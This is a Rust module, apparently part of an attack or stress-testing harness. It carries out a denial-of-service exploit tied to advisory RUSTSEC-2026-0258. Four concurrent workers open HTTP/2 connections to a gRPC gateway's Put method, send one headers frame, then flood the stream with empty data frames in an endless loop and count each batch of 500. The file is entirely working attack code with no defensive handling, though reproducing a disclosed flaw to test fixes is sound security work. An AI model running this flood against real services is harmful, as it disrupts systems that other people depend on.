//! Sends frames of data without data (RUSTSEC-2026-0258).

use super::wire::{DATA, END_HEADERS, HEADERS, Wire, call, frame};
use super::{Aim, again, crowd};

pub(super) async fn run(aim: Aim) -> u64 {
    let block = call("/meridian.da.v1.Gateway/Put");
    crowd(4, |_| {
        let block = block.clone();
        again(aim, move |done| {
            let block = block.clone();
            async move {
                let mut wire = Wire::open(aim.from, aim.grpc, &[]).await?;
                let stream = wire.stream();
                wire.send(&frame(HEADERS, END_HEADERS, stream, &block)).await?;
                let frames = frame(DATA, 0, stream, &[]).repeat(500);
                loop {
                    wire.send(&frames).await?;
                    done.add(500);
                }
            }
        })
    })
    .await
}
